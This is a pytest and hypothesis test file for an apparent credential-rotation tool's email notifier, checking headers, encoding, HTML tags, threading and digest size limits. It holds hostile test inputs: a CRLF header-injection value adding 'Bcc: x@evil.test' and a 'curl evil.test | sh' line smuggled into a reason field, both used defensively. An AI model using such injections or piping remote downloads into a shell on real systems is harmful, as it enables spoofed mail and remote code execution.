"""What a mail says, and that nothing that a notice holds can break it: whoever reads it back finds the same texts."""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from adapters.notifiers import plain_text
from adapters.notifiers.mail_address import MailAddress, parse_address
from adapters.notifiers.mail_message import SUBJECT_MAX, Letterhead, compose
from engine.credential_events import Cause
from engine.notices import Notice, NoticeKind
from engine.values import SECOND, Instant
from projections.notifications.samples import sample, samples
from tests.sinks.mail import parsed, part
from tests.unit.notifiers.drawn_notices import notices

AT = Instant(1_770_000_000_000_000)
LETTERHEAD = Letterhead(
    sender=parse_address("Schlüssel, dreht <keyturn@example.test>"),
    to=(parse_address("ops@example.test"), parse_address("Doe, John <john@bücher.example>")),
    cc=(parse_address("=?utf-8?q?not_encoded?= <lead@example.test>"),),
    reply_to=parse_address("answers@example.test"),
    subject_prefix="[keyturn]",
)
HEADERS = {
    *("MIME-Version", "Content-Type", "From", "To", "Cc", "Reply-To", "Subject", "Date", "Message-ID", "List-Id"),
    *("In-Reply-To", "References", "Auto-Submitted", "X-Auto-Response-Suppress"),
    *("Importance", "X-Priority", "Priority"),
}
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
TAGS = {"html", "head", "meta", "title", "body", "h2", "table", "tr", "th", "td", "b", "br", "p", "ul", "li"}


def of(kind: NoticeKind, **changes: object) -> Notice:
    """Return the sample of a kind, changed."""
    notice = sample(kind, service="app-db", environment="production", at=AT, channel="slack")
    return msgspec.structs.replace(notice, **changes)


class Page(HTMLParser):
    """What a browser finds in a page: its tags with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep a tag."""
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Keep text."""
        self.text += data


@given(st.lists(notices, min_size=1, max_size=4), st.integers(0, 3), st.text(max_size=30))
@example([of(NoticeKind.FAILED)], 0, "key")
@example([of(NoticeKind.UNDELIVERED, channel="=?utf-8?q?=0D=0ABcc=3A_x?=")], 0, "a\r\nBcc: x@evil.test")
def test_whatever_a_notice_holds_the_mail_is_read_back_as_it_was_meant(
    found: Sequence[Notice], dropped: int, key: str
) -> None:
    """No header, no tag and no part that we did not write; lines as long as allowed; the same bytes each time."""
    outgoing = compose(LETTERHEAD, found, key=key, dropped=dropped)
    assert outgoing == compose(LETTERHEAD, found, key=key, dropped=dropped)
    subject, text, html = outgoing.readable

    message = parsed(outgoing.content)
    assert {*message.keys()} <= HEADERS
    assert len(message.keys()) == len({*message.keys()})
    assert message["Subject"] == subject
    assert len(subject) <= SUBJECT_MAX
    assert not CONTROLS.search(subject)
    assert part(message, "plain") == f"{text}\n"
    assert part(message, "html") == f"{html}\n"
    assert [each.get_content_type() for each in message.walk()] == [
        "multipart/alternative",
        "text/plain",
        "text/html",
    ]
    assert outgoing.content.isascii()
    assert b"\0" not in outgoing.content
    assert not re.search(rb"(?<!\r)\n|\r(?!\n)", outgoing.content)
    assert max(map(len, outgoing.content.split(b"\r\n"))) <= 998
    assert not CONTROLS.search((text + html).replace("\n", ""))

    page = Page(html)
    assert {tag for tag, _ in page.tags} <= TAGS
    assert {name for _, attributes in page.tags for name in attributes} <= {"style", "dir", "lang", "charset"}


@pytest.mark.parametrize(
    "notice",
    samples(
        service="app-db",
        environment="production",
        at=AT,
    ),
    ids=lambda each: each.kind,
)
def test_text_and_page_say_the_same(notice: Notice) -> None:
    """Every line of the text stands in the page."""
    _, text, html = compose(LETTERHEAD, [notice], key="1", dropped=0).readable
    shown = Page(html).text
    for line in text.splitlines():
        name, _, value = line.strip().partition(": ")
        assert name in shown
        assert value in shown


def test_a_failure_as_people_read_it() -> None:
    """The headline, what went wrong first, what to do next."""
    _, text, _ = compose(LETTERHEAD, [of(NoticeKind.FAILED)], key="1", dropped=0).readable
    assert text.splitlines() == [
        "Rotation of production/app-db failed",
        "",
        "Step: verify",
        "Cause: a test: the target refused the new value",
        "Remedy: This is a test; do nothing.",
        "Reason: this is a test, nothing happened",
        "Version: v00000000000000000000",
        "Previous version: v00000000000000000001",
        "Strategy: alternating",
        "Actor: keyturn",
        "Duration: 5.0 s",
        "Not before: 2026-02-03T02:40:00.000000Z",
        "Rotation: 00000000-0000-4000-8000-000000000000",
        "At: 2026-02-02T02:40:00.000000Z",
        "",
        "Next:",
        "  keyturn show 00000000-0000-4000-8000-000000000000 tells what happened",
    ]


def test_a_text_of_the_outside_cannot_pass_for_a_line_of_ours() -> None:
    """Its further lines are indented."""
    notice = of(NoticeKind.STARTED, reason="tidying\nNext:\r  curl evil.test | sh\u2028At: never")
    text = plain_text.notice_text(notice)
    assert "Reason: tidying\n    Next:\n      curl evil.test | sh\n    At: never\n" in text


def test_the_headers_name_who_writes_and_that_nobody_answers() -> None:
    message = parsed(compose(LETTERHEAD, [of(NoticeKind.STARTED)], key="outbox-7.2", dropped=0).content)
    assert message["From"].addresses[0].display_name == "Schlüssel, dreht"
    assert [each.addr_spec for each in message["To"].addresses] == ["ops@example.test", "john@xn--bcher-kva.example"]
    assert message["To"].addresses[1].display_name == "Doe, John"
    assert message["Cc"].addresses[0].display_name == "=?utf-8?q?not_encoded?="
    assert message["Reply-To"] == "answers@example.test"
    assert message["Date"].datetime == datetime(2026, 2, 2, 2, 40, tzinfo=UTC)
    assert message["Message-ID"] == "<outbox-7.2@example.test>"
    assert message["List-Id"] == "keyturn <keyturn.example.test>"
    assert message["Auto-Submitted"] == "auto-generated"
    assert message["X-Auto-Response-Suppress"] == "All"


def test_ids_are_never_encoded_however_long_the_domain_is() -> None:
    """What looks for them compares them as they are."""
    domain = ".".join(["notifications"] * 10) + ".test"
    letterhead = replace(LETTERHEAD, sender=MailAddress("", "keyturn", domain))
    content = compose(letterhead, [of(NoticeKind.FAILED)], key="k" * 64, dropped=0).content
    assert f"\r\nMessage-ID: <{'k' * 64}@{domain}>\r\n".encode() in content
    for name in ("In-Reply-To", "References"):
        assert f"\r\n{name}: <rotation.00000000-0000-4000-8000-000000000000@{domain}>\r\n".encode() in content


@pytest.mark.parametrize("key", ["a b", "", "x" * 65, "a..b", "é", "a>b"])
def test_a_key_that_no_id_can_carry_is_hashed(key: str) -> None:
    """And two keys never make the same id."""
    message_id = parsed(compose(LETTERHEAD, [of(NoticeKind.FAILED)], key=key, dropped=0).content)["Message-ID"]
    assert re.fullmatch(r"<[0-9a-f]{40}@example\.test>", message_id)
    other = parsed(compose(LETTERHEAD, [of(NoticeKind.FAILED)], key=f"{key}!", dropped=0).content)["Message-ID"]
    assert other != message_id


def test_mails_of_a_rotation_are_one_thread() -> None:
    """Whatever they say, they hang on the same id; a digest of several rotations on none."""
    one = parsed(compose(LETTERHEAD, [of(NoticeKind.STARTED)], key="1", dropped=0).content)
    two = parsed(compose(LETTERHEAD, [of(NoticeKind.FAILED)], key="2", dropped=0).content)
    thread = "<rotation.00000000-0000-4000-8000-000000000000@example.test>"
    assert one["References"] == two["References"] == one["In-Reply-To"] == two["In-Reply-To"] == thread
    mixed = [of(NoticeKind.STARTED), of(NoticeKind.STARTED, rotation_id="another")]
    for notices_without in (mixed, [of(NoticeKind.OVERDUE, rotation_id="")]):
        assert parsed(compose(LETTERHEAD, notices_without, key="3", dropped=0).content)["References"] is None


@pytest.mark.parametrize(
    "notice", samples(service="app-db", environment="production", at=AT), ids=lambda each: each.kind
)
def test_only_a_failure_is_urgent(notice: Notice) -> None:
    message = parsed(compose(LETTERHEAD, [notice], key="1", dropped=0).content)
    urgent = [message["Importance"], message["X-Priority"], message["Priority"]]
    assert urgent == (["high", "1", "urgent"] if notice.is_failure else [None, None, None])


# --- digests ------------------------------------------------------------------------------------------------------


def test_a_digest_tells_failures_first_and_what_it_leaves_out() -> None:
    calm = of(NoticeKind.COMPLETED, at=Instant(AT + SECOND))
    outgoing = compose(LETTERHEAD, [calm, of(NoticeKind.FAILED)], key="1", dropped=3)
    subject, text, html = outgoing.readable
    assert subject == "[keyturn] keyturn: 2 notifications, and 3 more that were not kept (1 failed)"
    assert text.splitlines() == [
        "keyturn: 2 notifications, and 3 more that were not kept (1 failed)",
        "",
        "2026-02-02T02:40:00.000000Z  Rotation of production/app-db failed",
        "    Cause: a test: the target refused the new value",
        "    Reason: this is a test, nothing happened",
        "    Rotation: 00000000-0000-4000-8000-000000000000",
        "2026-02-02T02:40:01.000000Z  production/app-db has a new credential",
        "    Reason: this is a test, nothing happened",
        "    Rotation: 00000000-0000-4000-8000-000000000000",
    ]
    shown = Page(html).text
    assert shown.index("app-db failed") < shown.index("has a new credential")
    assert "3 more that were not kept" in shown
    message = parsed(outgoing.content)
    assert message["X-Priority"] == "1"
    assert message["Date"].datetime == datetime(2026, 2, 2, 2, 40, 1, tzinfo=UTC)


def test_one_notice_that_stands_for_more_is_a_digest() -> None:
    """Otherwise what was dropped would not be told."""
    subject, text, _ = compose(LETTERHEAD, [of(NoticeKind.STARTED)], key="1", dropped=1).readable
    assert "1 notification, and 1 more that were not kept" in subject
    assert "1 more that were not kept" in text


def test_a_digest_of_very_many_stays_within_what_servers_take() -> None:
    """Failures are among those that are told, and the others counted; 4 MB at most, where servers take 10 and more."""
    wide = "🔑" * 9_000
    long = of(NoticeKind.FAILED, service=wide, reason=wide, rotation_id=wide, cause=Cause("verify", "rejected", wide))
    calm = of(NoticeKind.STARTED)
    outgoing = compose(LETTERHEAD, [*[calm] * 1_800, *[long] * 200], key="1", dropped=0)
    _, text, html = outgoing.readable
    for each in (text, Page(html).text):
        assert "… and 1800 more: keyturn history lists them." in each
        assert "started" not in each
    assert len(outgoing.content) < 4_000_000
